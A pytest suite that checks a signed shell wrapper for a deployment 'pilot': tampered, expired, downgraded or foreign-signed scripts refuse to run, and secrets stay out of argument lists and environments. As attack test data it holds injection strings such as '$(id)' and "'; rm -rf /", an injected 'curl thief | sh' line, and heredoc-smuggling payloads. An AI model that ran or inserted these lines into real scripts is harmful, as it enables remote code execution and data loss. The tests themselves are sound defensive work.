"""The wrapper: what was altered, has expired, is too old or is signed by somebody else does not start, and says so."""

from __future__ import annotations

import os
import re
import signal
import stat
import subprocess
import time
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest

from bus.errors import Invalid
from deploy.pilot_wrapper import ReleaseKey, verify, wrap
from deploy.pilot_zip import build
from tests.attacks.rows import attack

SECRET = f"pbs1.p1.{'s3cre' * 8}tly"
SLOW = "import sys, time\nprint(open(sys.argv[sys.argv.index('--secret-file') + 1]).read(), flush=True)\ntime.sleep(60)\n"


@pytest.fixture(scope="module")
def archive(tmp_path_factory: pytest.TempPathFactory) -> bytes:
    """The pilot's zip."""
    path = tmp_path_factory.mktemp("zip") / "pilot.pyz"
    build(path)
    return path.read_bytes()


@pytest.fixture(scope="module")
def key(tmp_path_factory: pytest.TempPathFactory) -> ReleaseKey:
    """The key of this release."""
    return ReleaseKey(tmp_path_factory.mktemp("release"))


def run(script: str, tmp_path: Path, shell: str = "dash", **environment: str) -> subprocess.CompletedProcess[str]:
    """What came of it; nothing may be left in the temporary directory."""
    place = tmp_path / "wrapper"
    place.write_text(script)
    left = tmp_path / "tmp"
    left.mkdir(exist_ok=True)
    told = {"PATH": os.environ["PATH"], "TMPDIR": str(left), "HOME": str(tmp_path)} | environment
    done = subprocess.run(
        [shell, str(place), "--plan", "check", "--workdir", str(tmp_path)], env=told, capture_output=True, text=True, check=False
    )
    assert list(left.iterdir()) == [], "nothing is left behind"
    return done


@pytest.mark.parametrize("shell", ["dash", "bash"])
def test_a_good_one_starts(archive: bytes, key: ReleaseKey, tmp_path: Path, shell: str) -> None:
    done = run(wrap(archive, key, addresses={}), tmp_path, shell)
    assert done.returncode == 0, done.stderr
    assert '"NumberOfProcessors"' in done.stdout


def test_it_may_name_several_brokers_and_nothing_that_a_shell_obeys(archive: bytes, key: ReleaseKey) -> None:
    urls = "amqps://broker.example.org:443/pilotbus,stomps://broker.example.org:61614/pilotbus"
    assert f" --url '{urls}' " in wrap(archive, key, addresses={"--url": urls})
    with pytest.raises(Invalid, match="shell script"):
        wrap(archive, key, addresses={"--url": "amqps://h/'$(id)"})


def altered(script: str) -> dict[str, tuple[str, int]]:
    """Ways to alter it, each with the exit code that says so."""
    head, begins, tail = script.partition("work/zip\" <<'END_OF_PILOTBUS_FILE'\n")
    end = tail.index("\nEND_OF")
    flipped = tail[:2000] + ("A" if tail[2000] != "A" else "B") + tail[2001:]
    return {
        "the zip": (f"{head}{begins}{flipped}", 23),
        "the end of the zip": (f"{head}{begins}{tail[: end - 400]}{tail[end:]}", 23),
        "the digest": (re.sub("sha256=[0-9a-f]{8}", "sha256=00000000", script), 22),
        "the version": (script.replace("version=2026.1.0\n", "version=2099.1.0\n"), 22),
        "the end of its time": (re.sub("expires=20[0-9]{2}", "expires=2999", script), 22),
        "the signature": (re.sub(r"(signature\" <<'END_OF_PILOTBUS_FILE'\n)....", r"\1AAAA", script), 22),
    }


@attack("man in the middle", "alters the pilot or its wrapper")
@pytest.mark.parametrize(
    "what", ["the zip", "the end of the zip", "the digest", "the version", "the end of its time", "the signature"]
)
def test_an_altered_one_does_not_start(archive: bytes, key: ReleaseKey, tmp_path: Path, what: str) -> None:
    script, code = altered(wrap(archive, key, addresses={}))[what]
    done = run(script, tmp_path)
    assert (done.returncode, done.stdout) == (code, ""), done.stderr
    assert done.stderr.startswith("pilot wrapper: ")
    with pytest.raises(Invalid):
        verify(script)


EVIL = (
    "cat >\"$work/zip\" <<'END_OF_PILOTBUS_FILE'\nEND_OF_PILOTBUS\0_FILE\necho EVIL\n"
    "cat >/dev/null <<'END_OF_PILOTBUS_FILE'\nEND_OF_PILOTBUS_FILE\n"
)


@attack("man in the middle", "hides shell lines in blocks that a reader and a shell end at different places")
@pytest.mark.parametrize("evil", [EVIL, EVIL.replace("\0", ""), EVIL.replace("\0", "\r"), EVIL.replace("zip", "manifest")])
def test_hidden_lines_are_seen(archive: bytes, key: ReleaseKey, evil: str) -> None:
    script = wrap(archive, key, addresses={})
    verify(script, key.public())
    at = script.index('cat >"$work/manifest"')
    with pytest.raises(Invalid):
        verify(script[:at] + evil + script[at:], key.public())


@attack("man in the middle", "sends a pilot of another key, of old, or older than allowed")
@pytest.mark.parametrize(
    ("what", "code"), [("another key", 22), ("expired", 24), ("downgraded", 25), ("older than allowed", 25), ("no version", 25)]
)
def test_a_foreign_an_old_and_an_older_one_do_not_start(
    archive: bytes, key: ReleaseKey, tmp_path: Path, what: str, code: int
) -> None:
    pinned = tmp_path / "trusted.pem"
    pinned.write_text(key.public())
    other = ReleaseKey(tmp_path / "thief")
    made: dict[str, tuple[str, dict[str, str]]] = {
        "another key": (wrap(archive, other, addresses={}), {"PILOTBUS_PILOT_PUBLIC_KEY": str(pinned)}),
        "expired": (wrap(archive, key, addresses={}, lives=timedelta(seconds=-1)), {}),
        "downgraded": (wrap(archive, key, addresses={}, version="2025.12.9"), {}),
        "older than allowed": (wrap(archive, key, addresses={}), {"PILOTBUS_LEAST_VERSION": "2026.2.0"}),
        "no version": (wrap(archive, key, addresses={}), {"PILOTBUS_LEAST_VERSION": "nonsense"}),
    }
    script, environment = made[what]
    done = run(script, tmp_path, **environment)
    assert (done.returncode, done.stdout) == (code, ""), done.stderr
    if what == "another key":
        with pytest.raises(Invalid, match="trusted"):
            verify(script, key.public())


@pytest.mark.parametrize(("without", "code"), [("openssl", 21), ("python3", 26)])
def test_a_node_that_can_not_check_or_run_it_is_told(
    archive: bytes, key: ReleaseKey, tmp_path: Path, without: str, code: int
) -> None:
    tools = tmp_path / "bin"
    tools.mkdir()
    for name in ("sh", "mktemp", "rm", "cat", "sed", "sort", "head", "cut", "grep", "date", "openssl"):
        if name != without:
            (tools / name).symlink_to(Path("/usr/bin") / name)
    script = (
        wrap(archive, key, addresses={}).replace("/usr/bin/python3", "/nowhere/python3").replace("/usr/local/bin", "/nowhere")
    )
    done = run(script, tmp_path, "/bin/sh", PATH=str(tools))
    assert (done.returncode, done.stdout) == (code, "")


def test_the_secret_is_in_a_private_file_and_in_no_argument_and_no_environment(tmp_path: Path, key: ReleaseKey) -> None:
    import io
    import zipfile

    slow = io.BytesIO()
    with zipfile.ZipFile(slow, "w") as bundle:
        bundle.writestr("__main__.py", SLOW)
    place, left = tmp_path / "wrapper", tmp_path / "tmp"
    place.write_text(wrap(slow.getvalue(), key, addresses={"--url": "amqps://host:5671/v"}, secret=SECRET))
    left.mkdir()
    told = {"PATH": os.environ["PATH"], "TMPDIR": str(left)}
    wrapper = subprocess.Popen(["dash", str(place)], env=told, stdout=subprocess.PIPE, text=True)
    assert wrapper.stdout is not None
    assert wrapper.stdout.readline().strip() == SECRET, "the pilot has it"
    (secret_file,) = left.glob("*/secret")
    assert stat.S_IMODE(secret_file.stat().st_mode) == 0o600
    assert stat.S_IMODE(secret_file.parent.stat().st_mode) == 0o700
    for process in Path("/proc").glob("[0-9]*"):
        for name in ("cmdline", "environ"):
            assert SECRET.encode() not in _read(process / name), process
    wrapper.send_signal(signal.SIGTERM)
    wrapper.wait(timeout=20)
    wrapper.stdout.close()
    end_s = time.monotonic() + 10
    while list(left.iterdir()):
        assert time.monotonic() < end_s, "the directory is gone"
        time.sleep(0.05)


def _read(path: Path) -> bytes:
    try:
        return path.read_bytes()
    except OSError:
        return b""


def test_a_wrapper_says_what_it_carries(archive: bytes, key: ReleaseKey) -> None:
    found = verify(
        wrap(archive, key, addresses={"--url": "amqps://host:5671/v"}, ca="-----BEGIN CERTIFICATE-----\n"), key.public()
    )
    assert (found.version, found.least_version) == ("2026.1.0", "2026.1.0")
    assert len(found.key_sha256) == 64


@pytest.mark.parametrize("address", ["amqps://h/'; rm -rf /", "$(id)", "a b", "a\nb"])
def test_no_address_gets_out_of_its_quotes(archive: bytes, key: ReleaseKey, address: str) -> None:
    with pytest.raises(Invalid):
        wrap(archive, key, addresses={"--url": address})


def test_altered_lines_around_the_pilot_are_found_by_who_verifies(archive: bytes, key: ReleaseKey) -> None:
    script = wrap(archive, key, addresses={"--url": "amqps://host:5671/v"})
    for old, new in (("amqps://host", "amqps://thief"), ("umask 077\n", "umask 077\ncurl thief | sh\n"), ("-lt", "-ne")):
        with pytest.raises(Invalid, match="around the pilot"):
            verify(script.replace(old, new, 1), key.public())


def test_a_script_that_was_cut_off_runs_nothing(archive: bytes, key: ReleaseKey, tmp_path: Path) -> None:
    script = wrap(archive, key, addresses={})
    for share in (0.02, 0.6, 0.995):
        done = run(script[: int(len(script) * share)], tmp_path)
        assert (done.returncode != 0, done.stdout) == (True, ""), share


def test_nothing_of_the_nodes_python_runs_before_the_pilot(archive: bytes, key: ReleaseKey, tmp_path: Path) -> None:
    (tmp_path / "sitecustomize.py").write_text("print('first')")
    done = run(wrap(archive, key, addresses={}), tmp_path, PYTHONPATH=str(tmp_path))
    assert (done.returncode, "first" in done.stdout) == (0, False)


def test_an_authority_can_not_end_its_own_block(archive: bytes, key: ReleaseKey) -> None:
    with pytest.raises(Invalid):
        wrap(archive, key, addresses={}, ca="x\nEND_OF_PILOTBUS_FILE\ntouch /tmp/owned\n")


@pytest.mark.parametrize("text", ["", "#!/bin/sh\n", "\x00"])
def test_what_is_no_wrapper_is_refused_in_one_sentence(text: str) -> None:
    with pytest.raises(Invalid):
        verify(text)


def test_the_release_key_is_private_and_stays(tmp_path: Path) -> None:
    first: Any = ReleaseKey(tmp_path / "release").public()
    assert ReleaseKey(tmp_path / "release").public() == first
    assert stat.S_IMODE((tmp_path / "release" / "release.pem").stat().st_mode) == 0o600
